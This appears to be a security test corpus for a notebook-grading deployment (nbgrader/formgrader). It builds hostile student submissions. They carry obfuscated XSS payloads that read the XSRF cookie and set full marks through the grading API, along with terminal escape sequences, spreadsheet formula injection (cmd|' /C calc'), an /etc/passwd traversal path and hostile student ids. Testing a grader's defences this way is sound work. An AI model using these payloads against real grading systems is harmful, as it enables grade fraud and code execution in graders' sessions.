"""Hostile submissions aimed at the grader: their browser, their terminal, their spreadsheet.

Each case is one student of 02-proper-language who answers honestly and adds one attack. Every
script in the corpus does what a real one would: it calls a beacon on 127.0.0.1 (so the test sees
it ran, even where the page's policy blocks that request) and, inside formgrader, gives its own
submission full marks through formgrader's API as the grader (so the gradebook shows it ran).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from hostile_corpus import Kit

ANSI = "\x1b[2J\x1b[31m\x1b]0;pwned-title\x07\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\"
RICH = "[/][bold red]fake[/bold red] [link=http://127.0.0.1:9/]link[/link] [/]"
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")

SCRIPT = """(function(){{console.log('PWNED:{name}');
try{{fetch('http://127.0.0.1:{port}/{name}',{{mode:'no-cors'}})}}catch(e){{}}
try{{new Image().src='http://127.0.0.1:{port}/{name}-img'}}catch(e){{}}
var m=document.cookie.match(/_xsrf=([^;]+)/),x=m?decodeURIComponent(m[1]):'';
var p=location.pathname,b=location.origin+p.split('/formgrader/')[0],s=(p.split('/submissions/')[1]||'').split('/')[0];
if(s){{fetch(b+'/formgrader/api/grades?submission_id='+s).then(function(r){{return r.json()}}).then(function(g){{
g.forEach(function(k){{k.manual_score=k.max_score;fetch(b+'/formgrader/api/grade/'+k.id,{{method:'PUT',
headers:{{'X-XSRFToken':x,'Content-Type':'application/json'}},body:JSON.stringify(k)}})}})}})}}}})()"""


def payload(name: str, port: int) -> str:
    """JavaScript that reports itself and grades its own submission, as one expression."""
    code = base64.b64encode(SCRIPT.format(name=name, port=port).encode()).decode()
    return f"eval(atob('{code}'))"


@dataclass
class Case:
    name: str  # the student id
    vectors: str  # what it tries, for messages
    build: Callable[[Kit, int], None]
    honest: bool = True  # False: the attack replaces an honest answer, so the case scores less


CASES: list[Case] = []


def case(name: str, vectors: str, honest: bool = True):
    def register(build: Callable[[Kit, int], None]) -> Callable[[Kit, int], None]:
        CASES.append(Case(name, vectors, build, honest))
        return build
    return register


def add_code(kit: Kit, source: str) -> None:
    """A cell the student adds after their answers (nbgrader keeps and runs it)."""
    kit.nb.cells.append(nbformat.v4.new_code_cell(source))


def add_markdown(kit: Kit, source: str, **metadata) -> None:
    cell = nbformat.v4.new_markdown_cell(source)
    cell.metadata.update(metadata)
    kit.nb.cells.append(cell)


def show(kind: str, value: str, metadata: dict | None = None) -> str:
    """Code that displays `value` raw as MIME type `kind`."""
    return (f"from IPython.display import display\n"
            f"display({{{kind!r}: {value!r}, 'text/plain': 'shown'}}, metadata={metadata or {}!r}, raw=True)\n")


@case("html-script", "text/html with <script>, through IPython.display.HTML")
def _html_script(kit: Kit, port: int) -> None:
    html = f"<script>{payload('html-script', port)}</script><b>hello</b>"
    add_code(kit, f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))\n")


@case("javascript", "application/javascript, through IPython.display.Javascript")
def _javascript(kit: Kit, port: int) -> None:
    code = payload("javascript", port)
    add_code(kit, f"from IPython.display import Javascript, display\ndisplay(Javascript({code!r}))\n")


@case("img-onerror", "an <img> whose onerror runs, and a <svg onload>")
def _img_onerror(kit: Kit, port: int) -> None:
    add_code(kit, show("text/html", f'<img src=x onerror="{payload("img-onerror", port)}">'
                                    f'<svg onload="{payload("img-onerror", port)}"></svg>'))


@case("markdown-output", "Markdown(...) with raw HTML, a javascript: link and a remote image")
def _markdown_output(kit: Kit, port: int) -> None:
    md = (f'Hi <img src=x onerror="{payload("markdown-output", port)}"> '
          f"[click](javascript:{payload('markdown-output', port)}) ![x](http://127.0.0.1:{port}/markdown-output-md)")
    add_code(kit, f"from IPython.display import Markdown, display\ndisplay(Markdown({md!r}))\n")


@case("svg-script", "an SVG output with a <script> and an onload handler")
def _svg(kit: Kit, port: int) -> None:
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload("svg-script", port)}">'
           f'<script>{payload("svg-script", port)}</script><circle r="5"/></svg>')
    add_code(kit, show("image/svg+xml", svg))


@case("widget-view", "a widget-view output that tries to close its <script> block")
def _widget(kit: Kit, port: int) -> None:
    view = {"model_id": f"</script><script>{payload('widget-view', port)}</script>", "version_major": 2,
            "version_minor": 0}
    add_code(kit, "from IPython.display import display\n"
                  f"display({{'application/vnd.jupyter.widget-view+json': {view!r}, 'text/plain': 'w'}}, raw=True)\n")


@case("mermaid-and-latex", "a Mermaid output with raw HTML; LaTeX with a javascript: \\href")
def _mermaid(kit: Kit, port: int) -> None:
    add_code(kit, show("text/vnd.mermaid", f'<img src=x onerror="{payload("mermaid-and-latex", port)}">'))
    add_code(kit, show("text/latex", f"$\\href{{javascript:{payload('mermaid-and-latex', port)}}}{{x}}$"))


@case("added-markdown", "Markdown cells the student added: <script>, onerror, a remote image, math")
def _added_markdown(kit: Kit, port: int) -> None:
    add_markdown(kit, f"# My notes\n\n<script>{payload('added-markdown', port)}</script>\n\n"
                      f'<img src=x onerror="{payload("added-markdown", port)}">\n\n'
                      f"![beacon](http://127.0.0.1:{port}/added-markdown-img)\n\n"
                      f"$\\href{{javascript:alert(1)}}{{x}}$")
    add_markdown(kit, f'<iframe srcdoc="<script>{payload("added-markdown", port)}</script>"></iframe>',
                 tags=["x navbar-fixed-top"])


@case("output-metadata", "image metadata that breaks out of the <img> tag; an 'isolated' iframe")
def _output_metadata(kit: Kit, port: int) -> None:
    add_code(kit, show("image/png", PNG, {"image/png": {"width": f"1 onerror={payload('output-metadata', port)}",
                                                        "height": "1"}}))
    add_code(kit, show("text/html", f"<script>{payload('output-metadata', port)}</script>",
                       {"text/html": {"isolated": True}}))


@case("broken-image-data", "image data that closes the src attribute")
def _image_data(kit: Kit, port: int) -> None:
    add_code(kit, show("image/png", f'x" onerror="{payload("broken-image-data", port)}'))


@case("page-tags", "<iframe srcdoc>, <meta refresh>, <base>, <link>, <form>, <object>, <style>, style=")
def _page_tags(kit: Kit, port: int) -> None:
    beacon = f"http://127.0.0.1:{port}/page-tags"
    html = (f'<iframe srcdoc="<script>{payload("page-tags", port)}</script>"></iframe>'
            f'<meta http-equiv="refresh" content="0;url=javascript:{payload("page-tags", port)}">'
            f'<base href="{beacon}-base/"><link rel="stylesheet" href="{beacon}-css">'
            f'<form action="{beacon}-form"><button formaction="javascript:alert(1)">go</button></form>'
            f'<object data="{beacon}-object"></object><style>@import url({beacon}-import);</style>'
            f'<div style="background:url({beacon}-style)">styled</div>'
            f'<a href="javascript:{payload("page-tags", port)}">link</a>')
    add_code(kit, show("text/html", html))


@case("ranking-item", "a ranking item the feedback repeats: <IMG SRC=X ONERROR=...>", honest=False)
def _ranking_item(kit: Kit, port: int) -> None:
    item = f'<IMG SRC=X ONERROR="{payload("ranking-item", port)}">'
    kit.answer("ranking-answer", f"ranking = [{item!r}, 'A', 'B', 'C', 'D']\n")


@case("exception-message", "an exception whose message the feedback repeats", honest=False)
def _exception(kit: Kit, port: int) -> None:
    message = f'<img src=x onerror="{payload("exception-message", port)}"> Flagged for a grader to look at: {RICH}'
    kit.answer("ranking-answer", "class Sly(list):\n    def __iter__(self):\n"
                                 f"        raise ValueError({message!r})\nranking = Sly(['A'])\n")


@case("terminal-printout", "escape sequences and rich markup printed and raised", honest=True)
def _terminal(kit: Kit, port: int) -> None:
    add_code(kit, f"print({ANSI!r})\nprint({RICH!r})\nprint('Flagged for a grader to look at: ' + {RICH + ANSI!r})\n")


@case("notebook-metadata", "a notebook title and kernel name that close the <title> tag")
def _nb_metadata(kit: Kit, port: int) -> None:
    kit.nb.metadata["title"] = f"</title><script>{payload('notebook-metadata', port)}</script>"
    kit.nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{payload('x', port)}</script>"}}


def hostile_log(port: int) -> str:
    """A scenario log whose ids are formulas, mathtext, paths and markup, with choices of every type."""
    lines = [
        {"event": "choice", "scenario": "=HYPERLINK(\"http://127.0.0.1:9/\",\"x\")",
         "node": "@SUM(1+1)*cmd|' /C calc'!A0", "choice": 0, "score": 0, "session": "s"},
        {"event": "choice", "scenario": "$\\undefinedmacro{x}$", "node": "$x^$", "choice": 1, "score": 0,
         "session": "s"},
        {"event": "choice", "scenario": "../../../../etc/passwd", "node": "a", "choice": 0, "score": 0, "session": "s"},
        {"event": "choice", "scenario": f"{ANSI}{RICH}", "node": {"a": [1]}, "choice": "0", "score": [], "session": 5},
        {"event": "choice", "scenario": "proper-language-printer", "node": "+cmd", "choice": 99, "score": 0},
        {"event": "choice", "scenario": "proper-language-printer", "node": "start", "choice": None, "score": "0"},
        {"event": "choice", "node": "x"},
    ]
    return "\n".join(json.dumps(line) for line in lines) + "\nnot json\n[1, 2]\n"


# Student ids a student can choose where hub users share one OS account (docs/deploying.md, trap 5).
# (An ANSI colour or cursor sequence needs `[`, which nbgrader cannot grade in an id: see "id-pattern".)
HOSTILE_IDS = {
    "id-html": "<img src=x onerror=\"fetch('http:\\x2f\\x2f127.0.0.1:{port}\\x2fid-html')\">",
    "id-terminal": "sid\x1b]0;pwned-title\x07\x1b]8;;mailto:x@y.z\x1b\\link\x1b]8;;\x1b\\\x08\x08\u202eevil",
    "id-formula": "=HYPERLINK(\"http:\\\\127.0.0.1\",\"x\")+cmd|' calc'!A0",
}
PATTERN_ID = "*"  # nbgrader would grade every student's folder under this id: refused, with the reason
